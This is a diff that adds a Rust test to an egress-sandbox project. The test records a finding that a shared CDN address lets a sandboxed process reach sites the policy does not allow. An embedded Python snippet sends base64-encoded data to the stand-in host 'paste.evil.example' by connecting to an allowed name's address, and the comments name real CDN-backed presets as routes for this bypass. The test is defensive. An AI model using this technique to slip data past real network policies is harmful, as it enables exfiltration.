@@ -121,3 +121,77 @@ fn only_the_guard_reaches_its_upstream_on_any_port() {
     );
     daemon.terminate();
 }
+
+/// As nobody in the sandbox: an HTTP request for `paste.evil.example` (argv[2]) sent to the
+/// address argv[1] port 443, as `curl --resolve paste.evil.example:443:ADDR` sends it (with
+/// TLS its SNI names the same host: the fence sees neither).
+const ASK_THE_SHARED_EDGE: &str = r#"
+import socket, sys
+s = socket.create_connection((sys.argv[1], 443), timeout=2)
+s.sendall(f"GET /?d=c2VjcmV0 HTTP/1.1\r\nHost: {sys.argv[2]}\r\n\r\n".encode())
+print(s.recv(200).decode(errors="replace"), flush=True)
+"#;
+
+/// A policy lists names; the table allows addresses. A name behind a CDN shares its addresses
+/// with every other site of the CDN, and the CDN's edge serves whichever site the request's
+/// SNI and Host name: so the sandbox reaches any site of the CDN, the adversary's own
+/// included, through an allowed name's address, while the guard refuses the site's name. The
+/// shipped presets are such names: `registry.npmjs.org` (Cloudflare), `files.pythonhosted.org`
+/// (Fastly), and the docker-hub preset's R2 endpoint, whose addresses serve every R2
+/// account's `<account>.r2.cloudflarestorage.com` (an upload to the adversary's own bucket).
+/// The README's own example, `curl https://paste.example/?d=...`, leaves so when the paste
+/// site is on the CDN. Here one host of the world is the CDN's edge for an allowed name and a
+/// paste site. An nftables fence cannot close this (it never sees a name on the wire, and TLS
+/// hides the Host header); the README now says so under "Out of scope" (names behind shared
+/// CDNs need a proxy that checks the SNI, and the fence then allows only the proxy).
+#[test]
+#[ignore = "finding: a shared CDN address carries every site of the CDN; no fix in an L3 fence \
+            (README: Out of scope, names behind shared CDNs)"]
+fn a_cdn_address_of_an_allowed_name_carries_only_that_name() {
+    let w = World::new();
+    w.dns_set("registry.good.example", &[HOST_V4], DEFAULT_DNS_TTL);
+    w.dns_set("paste.evil.example", &[HOST_V4], DEFAULT_DNS_TTL);
+    let edge = w.listen_tcp(HOST_V4, 443);
+    let policy = format!(
+        "version: 1\nallow:\n  - domain: registry.good.example\n    ports: [443]\n\
+         dns:\n  mode: guard\n  upstream: [{DNS_V4}]\n"
+    );
+    let path = w.write_file("guard.yaml", &policy);
+    let mut daemon = w.spawn_guard(path.to_str().expect("utf-8"));
+    w.use_guard_resolver();
+
+    let paste = w.dig_as(Some(NOBODY), None, "paste.evil.example", "A", &[]);
+    assert_eq!(
+        paste.status.as_deref(),
+        Some("REFUSED"),
+        "the guard refuses the paste site: {paste:?}"
+    );
+    let registry = w.dig_as(Some(NOBODY), None, "registry.good.example", "A", &[]);
+    assert_eq!(registry.addrs(), vec![HOST_V4], "{registry:?}");
+
+    let out = w.adversary_cmd(
+        Adversary::Nobody,
+        &[
+            PYTHON,
+            "-c",
+            ASK_THE_SHARED_EDGE,
+            &HOST_V4.to_string(),
+            "paste.evil.example",
+        ],
+    );
+    eprintln!("{out}");
+    edge.wait_for(1, Duration::from_secs(2));
+    let strangers: Vec<String> = edge
+        .hits()
+        .iter()
+        .map(|h| String::from_utf8_lossy(&h.data).into_owned())
+        .filter(|r| !r.contains("Host: registry.good.example"))
+        .collect();
+    assert!(
+        strangers.is_empty(),
+        "the sandbox reached a site the policy does not name through an allowed name's \
+         address:\n{}",
+        strangers.join("\n")
+    );
+    daemon.terminate();
+}
